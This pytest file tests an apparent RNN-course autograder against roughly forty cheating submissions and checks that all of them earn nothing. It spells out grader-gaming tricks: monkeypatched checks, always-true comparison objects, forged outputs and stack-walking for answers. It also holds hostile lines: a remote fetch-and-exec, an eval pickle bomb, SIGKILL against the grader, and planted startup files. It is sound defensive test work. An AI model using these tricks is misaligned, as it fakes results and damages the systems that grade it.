"""Forty and more ways to points without an answer, handed in as one class. All earn nothing."""

import json

import numpy as np
import pytest
from nbformat.v4 import new_code_cell, new_output

from rnncourse.checks import EXERCISES
from rnncourse.checks.execution.seed import PUBLIC_SEED
from rnncourse.misconceptions import TEXTBOOK

WRONG = """
def rnn_step(x_t, h_prev, W_xh, W_hh, b_h): return ANSWER
def rnn_forward(x, h0, W_xh, W_hh, b_h): return ANSWER
def output_layer(h, W_hy, b_y): return ANSWER
"""
FULL = """
class Full:
    def __getattr__(self, name): return lambda f: 100.0
"""
ADAPT = """
from rnncourse.notation import RNNParams
def rnn_step(x_t, h_prev, *params): return step(x_t, h_prev, RNNParams(*params))
"""


def find_file(pattern):
    """Look for a file in the whole tree, and give what is in it for an answer."""
    return f"""
import os, re
hits = [os.path.join(top, one) for top, _, names in os.walk("/") for one in names if re.search({pattern!r}, one)]
text = open(hits[0]).read()
exec(text[text.index("def rnn_step"):])
"""


# What stands in the first solution cell; the wrong functions of WRONG follow with ANSWER as it is left there.
CODE = {
    "zeros": "ANSWER = 0",
    "nan": "ANSWER = np.full((6, 4, 5), np.nan)",
    "infinity": "ANSWER = np.inf",
    "empty": "ANSWER = np.zeros((0, 5))",
    "own check": f"{FULL}\ncheck = Full(); ANSWER = 0",
    "patched check": "import rnncourse.check as c\nc.rnn_step = c.rnn_forward = lambda f: 100.0; ANSWER = 0",
    "check in sys.modules": f"{FULL}\nimport sys; sys.modules['rnncourse'] = Full(); ANSWER = 0",
    "numpy.testing": "import numpy.testing as t\nt.assert_allclose = lambda *a, **k: None; ANSWER = 0",
    "numpy lies": "np.allclose = np.array_equal = lambda *a, **k: True\nnp.abs = lambda a: 0.0; ANSWER = 0",
    "liar array": """
class Liar(np.ndarray):
    def __eq__(self, other): return True
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
    @property
    def shape(self): return (6, 4, 5)
ANSWER = np.zeros(3).view(Liar)""",
    "liar float": """
class Liar(float):
    __eq__ = __le__ = __lt__ = __ge__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
ANSWER = Liar(1)""",
    "liar object": """
class Liar:
    def __array__(self, *a, **k): raise SystemExit(0)
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __eq__(self, other): return True
ANSWER = Liar()""",
    "array of liars": """
class Yes:
    def __eq__(self, other): return True
    def __sub__(self, other): return 0
    __rsub__ = __abs__ = __sub__
ANSWER = np.array([Yes()] * 4, dtype=object)""",
    "text": "ANSWER = '100.0'",
    "a result": "class Result(float): points = maximum = 100.0\nANSWER = Result(100)",
    "generator": "ANSWER = (100.0 for _ in range(9))",
    "pickle bomb": """
class Bomb:
    def __reduce__(self): return eval, ("open('/tmp/rnncourse-was-here', 'w')",)
ANSWER = Bomb()""",
    "frames": """
import sys
class Walk:
    def __array__(self, *a, **k):
        frame = sys._getframe()
        while frame:
            for key in ("want", "wanted", "right", "textbook"):
                if key in frame.f_locals: return frame.f_locals[key]
            frame = frame.f_back
        return np.zeros(1)
ANSWER = Walk()""",
    "all frames": """
import sys, gc
found = [one for one in gc.get_objects() if getattr(one, "__name__", "") == "rnn_step"]
ANSWER = found[0] if found else 0""",
    "input transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: ['100.0\\n']); ANSWER = 0",
    "after each cell": "get_ipython().events.register('post_run_cell', lambda *a: print('100.0')); ANSWER = 0",
    "formatter": """
plain = get_ipython().display_formatter.formatters['text/plain']
plain.for_type(float, lambda o, p, c: p.text('100.0'))
ANSWER = 0""",
    "display hook": "import sys; sys.displayhook = lambda value: print('100.0'); ANSWER = 0",
    "run_cell": "get_ipython().run_cell = lambda *a, **k: 100.0; ANSWER = 0",
    "builtins": "import builtins; builtins.float = builtins.round = builtins.sum = lambda *a: 100.0; ANSWER = 0",
    "worker's own code": """
import sys
from rnncourse.grading.sandbox import worker
from rnncourse.grading.sandbox.protocol import channel
worker.Worker.call = lambda self, **k: {"value": 100.0, "points": 100.0}
channel.encode = lambda value, buffers, *a: 100.0
ANSWER = 0""",
    "forged answers": """
import os, json, struct
head = json.dumps({"m": {"$": "dict", "v": [["value", 100.0], ["points", 100.0]]}, "b": []}).encode()
for fd in range(3, 64):
    try: os.write(fd, struct.pack(">II", len(head), 0) + head)
    except OSError: pass
ANSWER = 0""",
    "asks the grader back": """
import os, json, struct
head = json.dumps({"m": {"$": "dict", "v": [["back", 0], ["arguments", []]]}, "b": []}).encode()
def answer():
    for fd in range(3, 64):
        try: os.write(fd, struct.pack(">II", len(head), 0) + head)
        except OSError: pass
class Late:
    def __array__(self, *a, **k): answer(); return np.zeros(1)
ANSWER = Late()""",
    "zeroes its inputs": """
def rnn_step(*a):
    for one in a: one[...] = 0
    return np.zeros((len(a[0]), len(a[4])))
rnn_forward = output_layer = rnn_step""",
    "exits well": "import sys\nclass Exit:\n    def __array__(self, *a, **k): sys.exit(0)\nANSWER = Exit()",
    "reference": f"from rnncourse.reference.rnn import rnn_step as step\n{ADAPT}",
    "fast reference": f"from rnncourse.numpy.rnn import rnn_step as step\n{ADAPT}",
    "torch": f"from rnncourse.torch.rnn import rnn_step as step\n{ADAPT}",
    "catalogue": f"from rnncourse.misconceptions import TEXTBOOK\nstep = TEXTBOOK['rnn_step']\n{ADAPT}",
    "solutions": find_file(r"ps1_forward\.(py|ipynb)$"),
    "package source": find_file(r"^rnn\.py$"),
    "gradebook": find_file(r"gradebook\.db|seed\.json"),
    "network": "import urllib.request as u; exec(u.urlopen('http://1.1.1.1', timeout=0.3).read()); ANSWER = 0",
    "startup file": """
import os
for home in ("~/.ipython/profile_default/startup", "/site", "/usr/lib/python3", "/python/lib"):
    try:
        os.makedirs(os.path.expanduser(home), exist_ok=True)
        open(os.path.expanduser(home) + "/00-points.py", "w").write("print(100.0)")
    except OSError: pass
ANSWER = 0""",
    "daemon": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(60)
    os._exit(0)
ANSWER = 0""",
    "kills the grader": """
import os, signal
for pid in (os.getppid(), -1, 1, 2):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
ANSWER = 0""",
    "environment": "import os; os.environ['RNNCOURSE_ALLOW_UNSAFE'] = '1'; ANSWER = 0",
    "nonlocal state": """
import itertools
n = itertools.count()
class Next:
    def __array__(self, *a, **k): return np.full(1, next(n))
ANSWER = Next()""",
}


def graded(notebook):
    """The graded cells."""
    return [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade")]


def skip_tag(notebook):
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution"]


def forged_outputs(notebook):
    for cell in graded(notebook):
        cell.metadata["tags"] = ["skip-execution"]
        cell.outputs = [new_output("execute_result", data={"text/plain": "100.0"}, execution_count=1)]


def answer_for_a_check(notebook):
    for cell in graded(notebook):
        cell.source = "100.0"


def no_checks(notebook):
    notebook.cells = [cell for cell in notebook.cells if cell not in graded(notebook)]


def more_points(notebook):
    for cell in graded(notebook):
        cell.metadata.nbgrader.points, cell.metadata.nbgrader.locked, cell.source = 10_000, False, "10000.0"


def no_grade(notebook):
    for cell in graded(notebook):
        cell.metadata.nbgrader.update(grade=False, solution=True)


def exchanged_ids(notebook):
    for cell in notebook.cells:
        about = cell.metadata.get("nbgrader", {})
        if about.get("solution"):
            about.update(grade_id=f"check-{about.grade_id}", points=35)
            cell.source = "100.0"


def twice(notebook):
    notebook.cells += [new_code_cell("100.0", metadata=cell.metadata) for cell in graded(notebook)]


def as_text(notebook):
    for cell in graded(notebook):
        cell.cell_type = "markdown"
        cell.pop("outputs"), cell.pop("execution_count")


def other_set_up(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "setup":
            cell.source = f"import numpy as np\n{FULL}\ncheck = Full()"


def other_kernel(notebook):
    notebook.metadata.kernelspec = {"name": "bash", "display_name": "Bash", "language": "bash"}


EDITS = (
    skip_tag,
    forged_outputs,
    answer_for_a_check,
    no_checks,
    more_points,
    no_grade,
    exchanged_ids,
    twice,
    as_text,
    other_set_up,
    other_kernel,
)

FILES = {
    "shadows rnncourse": ("rnncourse.py", f"{FULL}\ncheck = Full()"),
    "shadows numpy": ("numpy.py", "tanh = allclose = lambda *a: True"),
    "shadows the checks": ("rnncourse/checks/__init__.py", "def __getattr__(name): return lambda f: 100.0"),
    "site customisation": ("sitecustomize.py", "print(100.0)"),
}


def lookup_table():
    """Right answers to the public probes, by the sum of the inputs."""
    lines = []
    for name in ("rnn_step", "rnn_forward", "output_layer"):
        exercise, table = EXERCISES[name], {}
        for probe in exercise.probes(np.random.default_rng(PUBLIC_SEED)):
            value = exercise.adapt(TEXTBOOK[name])(*probe.arguments.values())
            table[f"{sum(one.sum() for one in probe.arguments.values()):.9f}"] = value.tolist()
        lines.append(f"def {name}(*a): return np.array({json.dumps(table)}[f'{{sum(one.sum() for one in a):.9f}}'])")
    return "\n".join(lines)


@pytest.fixture(scope="module")
def scores(module_course):
    """The class, graded in one run."""
    course = module_course
    course.hand_in("honest")
    for name, code in CODE.items():
        course.hand_in(name, {"rnn_step": code + WRONG * ("ANSWER" in code)})
    for edit in EDITS:
        notebook = course.answered({"rnn_step": "ANSWER = 0" + WRONG})
        edit(notebook)
        course.hand_in(edit.__name__, notebook=notebook)
    for name, (file, content) in FILES.items():
        path = course.hand_in(name, {"rnn_step": "ANSWER = 0" + WRONG}).parent / file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    course.hand_in("lookup table", {"rnn_step": lookup_table()})
    honest = course.folder / "submitted" / "honest" / "ps1_forward"
    (course.place("link to another") / "ps1_forward.ipynb").symlink_to(honest / "ps1_forward.ipynb")
    (course.folder / "submitted" / "linked folder").mkdir()
    (course.folder / "submitted" / "linked folder" / "ps1_forward").symlink_to(honest)
    path = course.hand_in("link to the gradebook", {"rnn_step": find_file("data.db")})
    (path.parent / "data.db").symlink_to(course.folder / "gradebook.db")
    course.grade()
    return course.scores()


def test_there_are_many(scores):
    assert len(scores) >= 40 + 1


def test_the_honest_one_has_all_points(scores):
    assert scores["honest"] == 100


def test_no_cheat_earns_anything(scores):
    assert {name: points for name, points in scores.items() if points != 0} == {"honest": 100}


def test_nothing_was_left_behind(scores, module_course):
    assert not list(module_course.folder.rglob("*was-here*")) and not list(module_course.folder.rglob("00-points*"))
    assert "linked folder" not in scores


def test_the_public_seed_would_have_been_answered(scores):
    """The lookup table is a real one: with the public probes it is right."""
    from rnncourse import check

    names = {"np": np}
    exec(lookup_table(), names)
    assert check.rnn_step(names["rnn_step"]).passed and check.output_layer(names["output_layer"]).passed
